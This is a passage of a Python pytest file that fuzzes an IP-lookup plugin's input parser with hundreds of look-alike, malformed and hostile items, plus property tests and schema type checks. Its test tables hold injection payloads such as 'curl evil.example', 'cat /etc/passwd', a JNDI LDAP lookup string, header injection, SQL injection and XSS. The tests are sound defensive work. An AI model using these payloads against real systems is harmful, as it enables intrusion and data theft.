"""Hostile and odd input: a corpus of hundreds of items, property tests, and wrong JSON types.

The promise under test (issue 5, item 3): whatever a caller pastes, every item gets exactly one
record in input order, either `invalid` or carrying a canonical IP (`str(ipaddress.ip_address(..))`,
only `[0-9a-f.:]`), and the Defender API never sees a request outside
`/api/ips/{canonical ip}/stats`. A malformed call (a wrong JSON type in any input or connection
field, or a document that is not an object) is `input_invalid` / `config_invalid` with a message
that names the field and never echoes the rejected value.

Re-run: `pytest -q tests/test_hostile_inputs.py`.
"""

from __future__ import annotations

import copy
import ipaddress
import itertools
import math
import re
from collections import Counter

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from plugin.config import load_connection
from plugin.emulator import Emulator
from plugin.errors import ConfigError, InputError, PluginError
from plugin.host import run_action
from plugin.ips import parse_item, split_items
from plugin.resources import load_schema

# =============================================================================================
# The corpus: hand-picked items plus items generated from small tables, all kept here as data.
# Each entry is (item, expectation): INVALID, a canonical IP string, or ANY (judged by the oracle).
# =============================================================================================

INVALID = "<invalid>"
ANY = "<any>"

# --- Unicode digits and look-alikes ---------------------------------------------------------
# Families of ten code points that read as 0-9 (str.isdigit() or int() accept most of them).
DIGIT_FAMILIES = {
    "fullwidth": "０１２３４５６７８９",
    "arabic_indic": "".join(chr(0x0660 + i) for i in range(10)),
    "ext_arabic_indic": "".join(chr(0x06F0 + i) for i in range(10)),
    "devanagari": "".join(chr(0x0966 + i) for i in range(10)),
    "bengali": "".join(chr(0x09E6 + i) for i in range(10)),
    "thai": "".join(chr(0x0E50 + i) for i in range(10)),
    "nko": "".join(chr(0x07C0 + i) for i in range(10)),
    "mongolian": "".join(chr(0x1810 + i) for i in range(10)),
    "math_bold": "".join(chr(0x1D7CE + i) for i in range(10)),
    "math_double_struck": "".join(chr(0x1D7D8 + i) for i in range(10)),
    "math_sans": "".join(chr(0x1D7E2 + i) for i in range(10)),
    "math_monospace": "".join(chr(0x1D7F6 + i) for i in range(10)),
    "superscript": "⁰¹²³⁴⁵⁶⁷⁸⁹",
    "subscript": "₀₁₂₃₄₅₆₇₈₉",
    "circled": "⓪①②③④⑤⑥⑦⑧⑨",
    "segmented": "".join(chr(0x1FBF0 + i) for i in range(10)),
}
LOOKALIKE_BASES = ["1.2.3.4", "8.8.8.8", "10.209.67.177", "127.0.0.1"]

# Dots: full-width, ideographic, halfwidth ideographic, one-dot leader, middle dots, small full stop...
LOOKALIKE_DOTS = ["\uff0e", "\u3002", "\uff61", "\u2024", "\u00b7", "\ufe52", "\u0701", "\u2e33", "\u30fb", "\u0589"]
# Colons: full-width, ratio, modifier letter colon, triangular colon, small colon, Armenian, Hebrew sof pasuq.
LOOKALIKE_COLONS = ["\uff1a", "\u2236", "\ua789", "\u02d0", "\ufe55", "\u0589", "\u05c3"]
# Hex letters: Cyrillic a/e/c, full-width a and F, mathematical sans a, Latin small capital.
LOOKALIKE_HEX = ["\u0430", "\u0435", "\u0441", "\uff41", "\uff26", "\U0001d5ba", "\u1d00", "\u0251"]


def _lookalike_items() -> list[tuple[str, str]]:
    items = []
    for digits in DIGIT_FAMILIES.values():
        table = str.maketrans("0123456789", digits)
        items += [(base.translate(table), INVALID) for base in LOOKALIKE_BASES]
        items.append(("1.2.3." + digits[4], INVALID))  # one foreign digit among ASCII ones
        items.append(("2001:db8::" + digits[1], INVALID))
    for dot in LOOKALIKE_DOTS:
        items += [(base.replace(".", dot), INVALID) for base in ("1.2.3.4", "8.8.8.8", "127.0.0.1")]
        items.append(("1.2.3" + dot + "4", INVALID))
    for colon in LOOKALIKE_COLONS:
        items += [(base.replace(":", colon), INVALID) for base in ("2001:db8::1", "::1", "::ffff:1.2.3.4")]
    for letter in LOOKALIKE_HEX:
        items += [("2001:db8::" + letter, INVALID), ("fe80::" + letter + "bcd", INVALID), (letter + "::1", INVALID)]
    return items


# --- things appended to or put in front of an IP ---------------------------------------------
SUFFIXES = [
    # path tricks, plain and URL-encoded once and twice
    "/", "//", "/..", "/../", "/../../api/machines", "/stats", "/../../../../etc/passwd",
    "%2F", "%2f", "%252F", "%252f", "%2e%2e", "%2E%2E%2F", "%252e%252e%252f", "/%2e%2e/", "%00", "%0d%0a",
    "%u002f", "\\", "\\..\\..\\", "..", ".", "...",
    # URL parts
    "?x=1", "?lookBackHours=1", "#frag", "@evil.example", ":443", ":0", ":65536", ";", "&a=b", "+",
    # CIDRs and zone indexes
    "/24", "/32", "/0", "/128", "%eth0", "%25eth0", "%0", "%1", "%",
    # header and log injection
    "\r\nHost: evil", "\r\nX-Injected: 1", "\nSet-Cookie: a=b", "\r", "\x00", "\x00evil", "\x1b[2J",
    # invisible and bidirectional characters
    "\u200b", "\u200c", "\u200d", "\u2060", "\u200e", "\u200f", "\u202e", "\u2066", "\ufeff", "\u00ad",
    "\u0301", "\ufe0f",
    # plain whitespace (stripped, so these stay valid)
    " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2028", "\x85", "\x1c", "\x0b\x0c",
    # quotes and markup
    "'", "\"", "<", ">", "`", "'--", "\"><script>alert(1)</script>",
]
SUFFIX_BASES = ["1.2.3.4", "2001:db8::1", "::ffff:1.2.3.4"]

PREFIXES = [
    "/", "../", "..%2F", "%2F", "%252F", "\\", "http://", "https://", "//", "@", "x@", "[", "0x", "0", "00",
    "\ufeff", "\u202e", "\u200b", "\u200f", "\x00", "\x7f", "+", "-", " ", "\t", "\u3000",
]
PREFIX_BASES = ["1.2.3.4", "2001:db8::1"]


def _affix_items() -> list[tuple[str, str]]:
    items = []
    for base in SUFFIX_BASES:
        for suffix in SUFFIXES:
            items.append((base + suffix, _expected_after_affix(base, suffix)))
    for base in PREFIX_BASES:
        for prefix in PREFIXES:
            items.append((prefix + base, _expected_after_affix(base, prefix)))
    return items


def _expected_after_affix(base: str, affix: str) -> str:
    """Whitespace (str.isspace) around an IP is stripped; anything else makes the item invalid."""
    if affix.strip() == "":
        return _canonical(base)
    if ":" in base and re.fullmatch(r":[0-9]+", affix):
        return ANY  # "2001:db8::1:443" is one more hextet, not a port: the oracle decides
    return INVALID


# --- numeric forms: leading zeros, octal, hex, integers, short forms ----------------------------
NUMERIC_FORMS = [
    "01.2.3.4", "1.02.3.4", "1.2.03.4", "1.2.3.04", "001.002.003.004", "010.010.010.010", "0127.0.0.1",
    "0177.0.0.1", "0177.0.0.01", "00.0.0.0", "08.8.8.8", "09.1.1.1",
    "0x7f.0.0.1", "0x7F.0x0.0x0.0x1", "0x7f.1", "0x7f000001", "0X7F000001", "0x0", "0xffffffff", "0xFFFFFFFF.0",
    "017700000001", "0177.1", "127.1", "127.0.1", "10.1", "1.2.3", "1.2", "1", "0", "00",
    "2130706433", "134744072", "4294967295", "4294967296", "-1", "1e3", "1.2.3.4e0", "1.2.3.4.5", "1.2.3.4.",
    ".1.2.3.4", "1..2.3", "256.1.1.1", "1.2.3.256", "999.999.999.999", "1.2.3.-4", "1.2.3.+4", "1.2.3.4 ",
    "1,2,3,4", "1 2 3 4", "1.2.3.4.0.0.0.0",
]

# --- IPv6 shapes: embedded IPv4, zone indexes, brackets, ports, CIDRs ---------------------------
IPV6_FORMS = [
    ("::ffff:1.2.3.4", "1.2.3.4"), ("::FFFF:1.2.3.4", "1.2.3.4"), ("0:0:0:0:0:ffff:1.2.3.4", "1.2.3.4"),
    ("::ffff:0102:0304", "1.2.3.4"), ("64:ff9b::1.2.3.4", "64:ff9b::102:304"), ("::1.2.3.4", "::102:304"),
    ("::ffff:0:1.2.3.4", "::ffff:0:102:304"), ("::ffff:127.0.0.1", "127.0.0.1"), ("::ffff:0.0.0.0", "0.0.0.0"),
    ("::ffff:224.0.0.1", "224.0.0.1"), ("::ffff:169.254.1.1", "169.254.1.1"), ("::127.0.0.1", "::7f00:1"),
    ("2001:db8::1.2.3.4", "2001:db8::102:304"),
    ("::ffff:01.2.3.4", INVALID), ("::ffff:1.2.3", INVALID), ("::ffff:1.2.3.4.5", INVALID),
    ("::ffff:256.1.1.1", INVALID), ("::ffff:0x7f.1", INVALID), ("1.2.3.4::", INVALID),
    ("fe80::1%eth0", INVALID), ("fe80::1%25eth0", INVALID), ("fe80::1%1", INVALID), ("fe80::1%", INVALID),
    ("ff02::1%lo0", INVALID), ("2001:db8::1%2F..%2Fstats", INVALID),
    ("[::1]", INVALID), ("[2001:db8::1]", INVALID), ("[2001:db8::1]:443", INVALID), ("[1.2.3.4]", INVALID),
    ("[::ffff:1.2.3.4]:80", INVALID), ("[fe80::1%eth0]", INVALID), ("[]", INVALID), ("[", INVALID),
    ("2001:db8::1:443", "2001:db8::1:443"),  # a "port" on an IPv6 address is just another hextet
    ("2001:db8::/32", INVALID), ("::/0", INVALID), ("2001:db8::1/128", INVALID), ("::ffff:1.2.3.4/96", INVALID),
    ("2001:db8:::1", INVALID), ("2001::db8::1", INVALID), ("1:2:3:4:5:6:7:8:9", INVALID), ("1:2:3:4:5:6:7", INVALID),
    ("12345::1", INVALID), ("2001:db8::g", INVALID), (":", INVALID), (":::", INVALID), ("::1:", INVALID),
    ("2001:db8::1::", INVALID), ("00000::1", INVALID),
    ("1:2:3:4:5:6:7::", "1:2:3:4:5:6:7:0"), ("::2:3:4:5:6:7:8", "0:2:3:4:5:6:7:8"),
]

# --- valid addresses in several spellings (special ranges included) -----------------------------
VALID_ADDRESSES = [
    "8.8.8.8", "1.1.1.1", "10.209.67.177", "192.168.0.1", "172.16.5.4", "100.64.0.1", "203.0.113.9",
    "198.51.100.7", "192.0.2.5", "255.255.255.255", "240.0.0.1", "0.1.2.3",
    "127.0.0.1", "127.255.0.9", "0.0.0.0", "224.0.0.1", "239.255.255.250", "169.254.1.1", "169.254.255.254",
    "2001:db8::1", "2606:4700:4700::1111", "fd00::1", "2001:db8:0:0:1:0:0:1", "2001:db8::abcd:ef01",
    "::1", "::", "ff02::1", "ff05::1:3", "fe80::1", "febf:ffff::1", "fec0::1",
    "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff",
]


def _valid_form_items() -> list[tuple[str, str]]:
    items = []
    for text in VALID_ADDRESSES:
        address = ipaddress.ip_address(text)
        forms = {address.compressed, address.exploded, address.compressed.upper(), address.exploded.upper()}
        items += [(form, _canonical(form)) for form in sorted(forms)]
    wrapped = ["  8.8.8.8  ", "\t8.8.8.8\n", "\r\n2001:db8::1 ", "\u00a08.8.8.8\u3000", "\u20281.1.1.1\u2029",
               "\x1c\x1d1.1.1.1\x1e\x1f", "\x851.1.1.1", "\v\f2001:DB8::2\v\f"]
    items += [(text, _canonical(text.strip())) for text in wrapped]
    return items


# --- control characters: inside an IP (invalid) and after one (invalid unless whitespace) --------
CONTROL_CHARS = [chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)]]


def _control_items() -> list[tuple[str, str]]:
    items = [("1.2" + c + ".3.4", INVALID) for c in CONTROL_CHARS]
    items += [("8.8.4.4" + c, "8.8.4.4" if c.isspace() else INVALID) for c in CONTROL_CHARS[:33]]
    return items


# --- huge items (the input schema caps a list item at 10,000 characters) ----------------------
LONG_ITEMS = [
    ("A" * 10_000, INVALID),
    ("1" * 10_000, INVALID),
    ("1.2.3.4" + " " * 9_993, "1.2.3.4"),  # only whitespace after the IP
    (" " * 9_993 + "1.2.3.4", "1.2.3.4"),
    ("1.2.3.4," * 1_250, INVALID),  # 10,000 characters
    ("%2F" * 3_333, INVALID),
    ("../" * 3_333, INVALID),
    ("\u0661" * 10_000, INVALID),
    ("\U0001f600" * 10_000, INVALID),
    ("\u200b" * 9_993 + "1.2.3.4", INVALID),
    ("ffff:" * 2_000, INVALID),
    ("1.2.3.4" + "\x00" * 9_993, INVALID),
    ("0" * 9_993 + "1.2.3.4", INVALID),
]

# --- junk: SQL, shell, templates, formats, JSON, emoji, names ---------------------------------
JUNK = [
    "' OR 1=1 --", "1.2.3.4'; DROP TABLE ips;--", "1.2.3.4\" OR \"\"=\"", "1.2.3.4 UNION SELECT * FROM secrets",
    "$(reboot)", "`id`", "1.2.3.4;ls", "1.2.3.4 | cat /etc/passwd", "1.2.3.4 && curl evil.example", "$IFS",
    "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "<%= 7*7 %>", "#{7*7}", "{0}", "%s%s%s%n", "%x",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
    "{\"ip\": \"1.2.3.4\"}", "[\"1.2.3.4\"]", "null", "None", "undefined", "NaN", "Infinity", "true", "[]", "{}",
    "\U0001f600", "1.2.3.4\U0001f600", "\U0001f522.\U0001f522", "1\ufe0f\u20e3.2\ufe0f\u20e3.3\ufe0f\u20e3.4\ufe0f\u20e3",
    "\U0001f1fa\U0001f1f8", "\U0001f468\u200d\U0001f4bb",
    "example.com", "localhost", "http://8.8.8.8/", "https://[::1]:443/", "ftp://1.2.3.4", "file:///etc/passwd",
    "user@1.2.3.4", "1.2.3.4@evil.example", "\\\\1.2.3.4\\share", "1.2.3.4/../../api/machines",
    "client_secret=abc~DEF.ghi_jkl", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x", "", " ", "\t\n", ".", ":", "/", "\\",
    "%", "%%", "?", "#", "@", "..", "::::", "....", "0.0.0.0.0",
    "\ud7ff", "\ue000", "\uffff", "\U0010ffff", "\ufffd", "\U000e0031.\U000e0032",  # private use, noncharacters, tags
]


def _canonical(text: str) -> str:
    """The canonical form the plugin promises: ipaddress's, IPv4-mapped IPv6 as IPv4."""
    address = ipaddress.ip_address(text)
    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None:
        address = address.ipv4_mapped
    return str(address)


def _build_corpus() -> list[tuple[str, str]]:
    entries = [
        *_lookalike_items(),
        *_affix_items(),
        *[(item, INVALID) for item in NUMERIC_FORMS],
        *IPV6_FORMS,
        *_valid_form_items(),
        *_control_items(),
        *LONG_ITEMS,
        *[(item, ANY) for item in JUNK],
    ]
    # One entry per distinct item, first expectation wins (the generators overlap a little).
    seen: dict[str, str] = {}
    for item, expected in entries:
        seen.setdefault(item, expected)
    return list(seen.items())


CORPUS: list[tuple[str, str]] = _build_corpus()
CORPUS_ITEMS: list[str] = [item for item, _ in CORPUS]
CHUNK = 400  # items per run_action call (the plugin's cap is 1,000); two or more calls share the cache

# =============================================================================================
# The oracle: what the plugin must make of any item, from first principles.
# =============================================================================================

SAFE_IP = re.compile(r"[0-9a-f.:]+")
_ASCII_IP_CHARS = frozenset("0123456789abcdefABCDEF.:")
SKIP_FLAGS = {
    "unspecified": "is_unspecified",
    "loopback": "is_loopback",
    "multicast": "is_multicast",
    "link_local": "is_link_local",
}
STATS_PATH = re.compile(r"/api/ips/([^/?#]*)/stats")


def oracle(item: str) -> str | None:
    """The canonical IP `item` must become, or None when it must be invalid.

    Valid means: after stripping surrounding whitespace (str.strip), only ASCII digits, a-f, A-F,
    '.' and ':' remain, and the standard library parses that as an IP address. No zone index,
    no brackets, no port, no CIDR, no Unicode digit, no legacy IPv4 spelling.
    """
    text = item.strip()
    if not text or not set(text) <= _ASCII_IP_CHARS:
        return None
    try:
        return _canonical(text)
    except ValueError:
        return None


def skip_codes(canonical: str) -> set[str]:
    """The skip codes that fit an address (empty: it must be looked up)."""
    address = ipaddress.ip_address(canonical)
    return {code for code, flag in SKIP_FLAGS.items() if getattr(address, flag)}


def check_canonical(value: object) -> None:
    assert isinstance(value, str)
    assert SAFE_IP.fullmatch(value), f"{value!r} holds characters outside [0-9a-f.:]"
    assert str(ipaddress.ip_address(value)) == value, f"{value!r} is not in canonical form"
    address = ipaddress.ip_address(value)
    assert not (isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped), f"{value!r} is IPv4-mapped"


def check_parsed(item: str) -> None:
    """parse_item: invalid, or a canonical IP that is skipped exactly when Defender need not be asked."""
    parsed = parse_item(item)
    assert parsed.input is item
    expected = oracle(item)
    if parsed.status == "invalid":
        assert expected is None, f"{item!r} is a valid IP ({expected}) but was rejected"
        assert (parsed.ip, parsed.code) == (None, "invalid_ip")
        assert parsed.reason
        return
    assert expected is not None, f"{item!r} was accepted as {parsed.ip!r}"
    check_canonical(parsed.ip)
    assert parsed.ip == expected
    codes = skip_codes(parsed.ip)
    if parsed.status == "skipped":
        assert parsed.code in codes, f"{item!r} skipped as {parsed.code}, not one of {codes}"
    else:
        assert parsed.status == "callable"
        assert not codes, f"{item!r} is {codes} but would be looked up"
        assert parsed.code is None


def _show(item: str) -> str:
    return ascii(item if len(item) <= 40 else f"{item[:20]}...({len(item)} chars)")


# =============================================================================================
# The corpus, at the unit level
# =============================================================================================


def test_the_corpus_is_large_and_covers_every_kind():
    assert len(CORPUS) >= 300
    items = set(CORPUS_ITEMS)
    must_hold = [
        "0x7f.1", "0x7f000001", "127.1", "2130706433", "::ffff:1.2.3.4", "64:ff9b::1.2.3.4", "::1.2.3.4",
        "fe80::1%eth0", "[::1]", "[2001:db8::1]:443", "1.2.3.4:443", "1.2.3.4/24", "1.2.3.4%2F", "1.2.3.4%252F",
        "1.2.3.4%2e%2e", "1.2.3.4/..", "1.2.3.4/", "1.2.3.4\\", "1.2.3.4?x=1", "1.2.3.4#frag", "1.2.3.4@evil.example",
        "1.2.3.4\x00", "1.2.3.4\r\nHost: evil", "1.2.3.4\t", "1.2.3.4\u200b", "1.2.3.4\u200f", "\ufeff1.2.3.4",
        "\uff11.\uff12.\uff13.\uff14", "1\uff0e2\uff0e3\uff0e4", "1\u30022\u30023\u30024", "1\uff612\uff613\uff614",
        "010.010.010.010", "0177.0.0.1", "2001:DB8::1", "2001:0db8:0000:0000:0000:0000:0000:0001",
        "127.0.0.1", "169.254.1.1", "fe80::1", "224.0.0.1", "ff02::1", "0.0.0.0", "::", "::1",
    ]
    assert [item for item in must_hold if item not in items] == []
    assert any(len(item) == 10_000 for item in items)
    expectations = Counter(expected if expected in (INVALID, ANY) else "valid" for _, expected in CORPUS)
    assert expectations[INVALID] >= 200 and expectations["valid"] >= 50


def test_every_corpus_item_parses_to_invalid_or_a_canonical_ip():
    problems = []
    for item, expected in CORPUS:
        try:
            check_parsed(item)
            parsed = parse_item(item)
            if expected == INVALID:
                assert parsed.status == "invalid", f"expected invalid, got {parsed.status} {parsed.ip!r}"
            elif expected != ANY:
                assert parsed.ip == expected, f"expected {expected!r}, got {parsed.status} {parsed.ip!r}"
            if parsed.status == "invalid" and len(item.strip()) >= 3:
                assert item.strip() not in parsed.reason, "the reason echoes the item"
        except AssertionError as failure:
            problems.append(f"{_show(item)}: {failure}")
    assert problems == []


# =============================================================================================
# End to end: the whole corpus through the host, against one HTTPS emulator
# =============================================================================================

LIMITS = [{"calls": 100_000, "per_seconds": 60}]


@pytest.fixture(scope="module")
def emu():
    """One emulator for the module, with limits far above anything these tests send."""
    with Emulator(limits=LIMITS) as emulator:
        yield emulator


def _connection(emu: Emulator) -> dict:
    return emu.connection(quota={"backend": "memory", "limits": copy.deepcopy(LIMITS)})


def _check_records(items: list[str], out: dict) -> set[str]:
    """One record per item in order, each invalid or canonical; returns the IPs that may be requested."""
    records = out["records"]
    assert [r["input"] for r in records] == items
    askable = set()
    for item, record in zip(items, records):
        where = _show(item)
        expected = oracle(item)
        status = record["status"]
        if status == "invalid":
            assert expected is None, f"{where}: valid IP {expected} reported invalid ({record['error']})"
            assert record["observable"] is None and record["enrichment"] is None, where
            assert record["error"]["code"] == "invalid_ip", f"{where}: {record['error']}"
            continue
        assert expected is not None, f"{where}: accepted as {record['observable']}"
        value = record["observable"]["value"]
        check_canonical(value)
        assert value == expected, where
        codes = skip_codes(value)
        if status == "skipped":
            assert codes and record["error"]["code"] in codes, f"{where}: skipped as {record['error']}"
            continue
        assert not codes, f"{where}: {codes} address was {status}, not skipped"
        assert status in ("enriched", "not_seen"), f"{where}: {status} {record['error']}"
        assert record["enrichment"]["value"] == value, where
        if not record["cached"]:
            askable.add(value)
    return askable


def _check_requests(emu: Emulator, seen: list, askable: set[str]) -> Counter:
    """Every request is discovery, the token endpoint, or the stats route for an askable canonical IP."""
    tenant = emu.tenant_id
    asked: Counter = Counter()
    for request in seen:
        if request.kind == "discovery":
            assert (request.method, request.path) == ("GET", f"/{tenant}/v2.0/.well-known/openid-configuration")
        elif request.kind == "token":
            assert (request.method, request.path) == ("POST", f"/{tenant}/oauth2/v2.0/token")
        else:
            assert request.kind == "stats", f"unexpected request {request.method} {request.path!r}"
            match = STATS_PATH.fullmatch(request.path)
            assert match, f"unexpected stats path {request.path!r}"
            ip = match.group(1)
            assert request.path == f"/api/ips/{ip}/stats" and "%" not in request.path
            check_canonical(ip)
            assert ip in askable, f"{ip!r} was requested but no record carries it"
            assert request.method == "GET"
            assert request.query == {"lookBackHours": "720"}, request.query
            assert request.status in (200, 404), f"{request.path}: {request.status}"
            asked[ip] += 1
    return asked


def test_the_whole_corpus_end_to_end_never_leaves_the_stats_route(emu):
    conn = _connection(emu)
    start = len(emu.requests)
    askable: set[str] = set()
    outputs = []
    for at in range(0, len(CORPUS_ITEMS), CHUNK):
        chunk = CORPUS_ITEMS[at:at + CHUNK]
        assert len(chunk) <= 1000
        out = run_action("enrich_ip", {"ips": chunk, "priority": "analyst"}, conn)
        askable |= _check_records(chunk, out)
        outputs.append(out)
    records = [r for out in outputs for r in out["records"]]
    assert len(records) == len(CORPUS_ITEMS)
    # The hand expectations agree with the records too.
    for (item, expected), record in zip(CORPUS, records):
        if expected == INVALID:
            assert record["status"] == "invalid", _show(item)
        elif expected != ANY:
            assert record["observable"]["value"] == expected, _show(item)
    asked = _check_requests(emu, emu.requests[start:], askable)
    # Each IP that had to be looked up was asked exactly once, however many spellings it had.
    assert set(asked) == askable
    assert [ip for ip, n in asked.items() if n != 1] == []
    statuses = Counter(r["status"] for r in records)
    assert statuses["invalid"] >= 200 and statuses["skipped"] >= 10 and statuses["enriched"] + statuses["not_seen"] >= 30


# =============================================================================================
# Properties
# =============================================================================================

LOOKALIKE_CHARS = [
    "\uff11", "\u0661", "\u06f5", "\u0966", "\U0001d7cf", "\u00b9", "\u2081", "\u2460",  # digits
    "\uff0e", "\u3002", "\uff61", "\u2024", "\uff1a", "\u2236",  # dots and colons
    "\u0430", "\u0435", "\uff41", "\uff26",  # hex letters
    "\u200b", "\u200f", "\u202e", "\ufeff", "\u00ad",  # invisible
    " ", "\t", "\n", "\r", "\x0b", "\x1c", "\x85", "\u00a0", "\u2028", "\u3000",  # whitespace
    "\x00", "\x7f", "\x1b", "\x9b",  # controls
]
IP_LIKE_ALPHABET = list("0123456789abcdefABCDEFxX.:%/[]\\?#@-+") + LOOKALIKE_CHARS
INSERTS = IP_LIKE_ALPHABET + ["%2F", "%252F", "%2e%2e", "/../", "..", "?x=1", "#f", "%eth0", "/24", ":443",
                              "\r\nHost: evil", "::", "ffff:", "0x", "00"]

ip_like_text = st.text(alphabet=st.sampled_from(IP_LIKE_ALPHABET), max_size=50)


@st.composite
def real_ip_text(draw) -> str:
    """A real IP in any spelling: compressed or expanded, lower or upper case, IPv4-mapped or not."""
    address = draw(st.one_of(st.ip_addresses(v=4), st.ip_addresses(v=6)))
    if address.version == 4 and draw(st.booleans()):
        address = ipaddress.IPv6Address(f"::ffff:{address}")
    text = address.exploded if draw(st.booleans()) else address.compressed
    return text.upper() if draw(st.booleans()) else text


@st.composite
def mutated_ip_text(draw) -> str:
    """A real IP with a few characters inserted, replaced or removed."""
    text = draw(real_ip_text())
    for _ in range(draw(st.integers(1, 3))):
        at = draw(st.integers(0, len(text)))
        action = draw(st.sampled_from(["insert", "replace", "delete"]))
        if action == "insert":
            text = text[:at] + draw(st.sampled_from(INSERTS)) + text[at:]
        elif action == "replace" and at < len(text):
            text = text[:at] + draw(st.sampled_from(IP_LIKE_ALPHABET)) + text[at + 1:]
        elif at < len(text):
            text = text[:at] + text[at + 1:]
    return text


hostile_items = st.one_of(
    st.text(),
    ip_like_text,
    real_ip_text(),
    mutated_ip_text(),
    st.sampled_from(CORPUS_ITEMS).filter(lambda item: len(item) < 200),
)


@settings(max_examples=1500, deadline=None)
@given(st.text())
@example("1.2.3.4\r\nHost: evil")
@example("::ffff:127.0.0.1")
@example("\u0661.\u0662.\u0663.\u0664")
def test_any_unicode_text_is_invalid_or_canonical(item):
    check_parsed(item)


@settings(max_examples=1500, deadline=None)
@given(st.one_of(ip_like_text, real_ip_text(), mutated_ip_text()))
@example("0x7f.1")
@example("fe80::1%eth0")
@example("64:ff9b::1.2.3.4")
def test_ip_like_text_is_invalid_or_canonical(item):
    check_parsed(item)


@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(hostile=st.lists(hostile_items, min_size=1, max_size=12),
       real=st.lists(st.one_of(real_ip_text(), mutated_ip_text()), min_size=1, max_size=6),
       order=st.randoms(use_true_random=False), as_string=st.booleans())
def test_lists_of_hostile_items_end_to_end_never_leave_the_stats_route(emu, hostile, real, order, as_string):
    items = [*hostile, *real]  # real IPs in every example, so every example makes calls
    order.shuffle(items)
    ips: list[str] | str = ", ".join(items) if as_string else items
    expected_items = split_items(ips)
    assume(expected_items)  # a string of only separators is input_invalid, tested below
    start = len(emu.requests)
    out = run_action("enrich_ip", {"ips": ips, "priority": "analyst"}, _connection(emu))
    askable = _check_records(expected_items, out)
    asked = _check_requests(emu, emu.requests[start:], askable)
    assert all(n == 1 for n in asked.values())


# =============================================================================================
# Wrong JSON types in every input and connection field
# =============================================================================================

_MARK = "Zq9hostile"  # distinctive text inside every rejected string value


def _resolve(schema: dict, root: dict) -> dict:
    """Follow local `$ref`s, keeping sibling keywords."""
    while "$ref" in schema:
        ref = schema["$ref"]
        assert ref.startswith("#/"), ref
        target = root
        for part in ref[2:].split("/"):
            target = target[part]
        schema = {**target, **{k: v for k, v in schema.items() if k != "$ref"}}
    return schema


def _json_type(value: object) -> str:
    return {str: "string", bool: "boolean", int: "integer", float: "number", list: "array", dict: "object",
            type(None): "null"}[type(value)]


def _accepted_types(schema: dict, root: dict) -> set[str]:
    schema = _resolve(schema, root)
    if "type" in schema:
        return set(schema["type"] if isinstance(schema["type"], list) else [schema["type"]])
    if "enum" in schema:
        return {_json_type(value) for value in schema["enum"]}
    if "anyOf" in schema:
        return set().union(*(_accepted_types(branch, root) for branch in schema["anyOf"]))
    raise AssertionError(f"no type for {schema}")


def _fields(schema: dict, root: dict, path: tuple = ()) -> list[tuple[tuple, set[str], set[str]]]:
    """(path, accepted JSON types, enum values) of every field, nested objects and list items included."""
    schema = _resolve(schema, root)
    found = []
    for name, sub in schema.get("properties", {}).items():
        here = (*path, name)
        resolved = _resolve(sub, root)
        found.append((here, _accepted_types(sub, root), set(resolved.get("enum", ()))))
        branches = [resolved, *(_resolve(b, root) for b in resolved.get("anyOf", ()))]
        for branch in branches:
            if branch.get("type") == "object" and "properties" in branch:
                found += _fields(branch, root, here)
            if branch.get("type") == "array" and "items" in branch:
                items = _resolve(branch["items"], root)
                found.append(((*here, 0), _accepted_types(items, root), set(items.get("enum", ()))))
                if items.get("type") == "object":
                    found += _fields(items, root, (*here, 0))
    return found


def _wrong_values(field: str) -> dict[str, object]:
    text = f"{_MARK}-{field}"
    return {
        "null": None, "true": True, "false": False, "int": 7, "zero": 0, "negative": -3, "float": 2.5,
        "inf": math.inf, "-inf": -math.inf, "nan": math.nan, "empty_list": [], "list": [text],
        "empty_object": {}, "object": {"key": text}, "string": text,
    }


def _is_right_type(value: object, types: set[str]) -> bool:
    if value is None:
        return "null" in types
    if isinstance(value, bool):
        return "boolean" in types
    if isinstance(value, (int, float)):
        if not math.isfinite(value):
            return False  # JSON has no NaN or Infinity; the plugin refuses them as numbers
        if "number" in types:
            return True
        return "integer" in types and float(value).is_integer()
    return _json_type(value) in types


def _render(root: str, path: tuple) -> str:
    return root + "".join(f"[{part}]" if isinstance(part, int) else f".{part}" for part in path)


def _set(doc: dict, path: tuple, value: object) -> dict:
    """A deep copy of `doc` with `value` at `path`, creating objects (and one-item lists) on the way."""
    doc = copy.deepcopy(doc)
    node = doc
    for part, following in itertools.pairwise(path):
        if isinstance(following, int):
            if not isinstance(node.get(part), list):
                node[part] = [{"calls": 100_000, "per_seconds": 60}]
        elif not isinstance(node[part] if isinstance(part, int) else node.get(part), dict):
            node[part] = {}
        node = node[part]
    node[path[-1]] = value
    return doc


INPUT_ROOT = load_schema("schemas/enrich_ip.input.schema.json")
CONNECTION_ROOT = load_schema("schemas/connection.schema.json")
INPUT_FIELDS = _fields(INPUT_ROOT, INPUT_ROOT)
CONNECTION_FIELDS = _fields(CONNECTION_ROOT, CONNECTION_ROOT)
BASE_INPUTS = {"ips": ["8.8.8.8"], "priority": "analyst"}
CONNECTION_REQUIRED = set(CONNECTION_ROOT["required"])


def _cases(fields, root_name, *, nulls_are_missing: bool):
    cases = []
    for path, types, _ in fields:
        name = _render(root_name, path)
        for label, value in _wrong_values(name).items():
            if _is_right_type(value, types):
                continue
            # A null key counts as missing (list items are not keys): only an error where required.
            null_as_missing = value is None and nulls_are_missing and all(not isinstance(p, int) for p in path)
            if null_as_missing and not (len(path) == 1 and path[0] in CONNECTION_REQUIRED | {"client_secret"}):
                continue
            cases.append(pytest.param(path, value, id=f"{name}={label}"))
    return cases


def test_every_schema_field_is_in_the_tables():
    input_names = {_render("inputs", p) for p, _, _ in INPUT_FIELDS}
    connection_names = {_render("connection", p) for p, _, _ in CONNECTION_FIELDS}
    assert set(INPUT_ROOT["properties"]) <= {p[0] for p, _, _ in INPUT_FIELDS}
    assert set(CONNECTION_ROOT["properties"]) <= {p[0] for p, _, _ in CONNECTION_FIELDS}
    assert {"inputs.ips[0]", "inputs.prevalence_thresholds.rare_max"} <= input_names
    assert {"connection.quota.limits[0].calls", "connection.quota.lanes.playbook",
